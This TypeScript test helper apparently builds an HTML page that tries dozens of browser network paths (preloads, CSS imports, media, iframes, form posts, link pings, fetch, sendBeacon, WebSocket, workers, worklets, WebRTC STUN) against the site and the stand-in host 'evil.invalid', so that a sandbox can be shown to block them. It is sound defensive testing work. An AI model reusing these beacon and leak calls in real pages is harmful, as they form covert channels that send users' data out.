/** Addresses that no sandboxed program should reach contain this. */
export const LEAK = /leak-/iu;

/**
 * A document that tries every way to the network that a browser has: to the
 * site's own server, and to one that does not exist, in turn.
 */
export function createLeakDocument(baseURL: string): string {
  let count = 0;
  const url = () => {
    count += 1;
    return `${count % 2 ? baseURL : 'https://evil.invalid'}/leak-${count}`;
  };
  return `
<base href="${url()}/">
<link rel="stylesheet" href="${url()}.css"><link rel="icon" href="${url()}.ico">
<link rel="preload" as="script" href="${url()}.js"><link rel="prefetch" href="${url()}">
<link rel="modulepreload" href="${url()}.js"><link rel="manifest" href="${url()}.json">
<link rel="prerender" href="${url()}">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url()}"]}]}</script>
<style>@import "${url()}.css"; @font-face { font-family: x; src: url(${url()}.woff2); } body { background: url(${url()}.png); font-family: x; }</style>
<p>字</p>
<img src="${url()}.png" srcset="${url()}.png 2x"><video src="${url()}.mp4" poster="${url()}.png" autoplay></video>
<audio src="${url()}.mp3" autoplay></audio><object data="${url()}.swf"></object><embed src="${url()}.swf">
<iframe src="${url()}"></iframe><input type="image" src="${url()}.png">
<svg><image href="${url()}.png"/><use href="${url()}.svg#a"/></svg>
<a id="a" href="#" ping="${url()}">x</a>
<form id="f" method="post" action="${url()}" target="_blank"><button id="b">x</button></form>
<iframe srcdoc="<img src='${url()}.png'><script>fetch('${url()}').catch(() => 0)</script>"></iframe>
<script src="${url()}.js"></script>
<script type="module" src="${url()}.js"></script>
<script>
  document.querySelector('#a').click();
  document.querySelector('#b').click();
  document.querySelector('#f').submit();
  const tries = [
    () => fetch('${url()}'), () => fetch('${url()}', {mode: 'no-cors', keepalive: true}),
    () => navigator.sendBeacon('${url()}', 'x'), () => { const x = new XMLHttpRequest(); x.open('GET', '${url()}'); x.send(); },
    () => new WebSocket('${url()}'.replace('http', 'ws')), () => new EventSource('${url()}'),
    () => import(String('${url()}.js')), () => new Worker('${url()}.js'),
    () => new Worker(URL.createObjectURL(new Blob(["fetch('${url()}').catch(() => 0); importScripts('${url()}.js')"]))),
    () => new Worker(URL.createObjectURL(new Blob(["import '${url()}.js'"])), {type: 'module'}),
    () => { new Image().src = '${url()}.png'; }, () => new Audio('${url()}.mp3').play(),
    () => new FontFace('y', 'url(${url()}.woff2)').load(),
    () => fetchLater('${url()}', {activateAfter: 0}),
    () => WebAssembly.instantiateStreaming(fetch('${url()}.wasm')),
    () => CSS.paintWorklet.addModule('${url()}.js'), () => new AudioContext().audioWorklet.addModule('${url()}.js'),
    () => new RTCPeerConnection({iceServers: [{urls: 'stun:evil.invalid'}]}), () => new WebTransport('${url()}'),
  ];
  for (const attempt of tries) { try { Promise.resolve(attempt()).catch(() => {}); } catch {} }
</script>`;
}
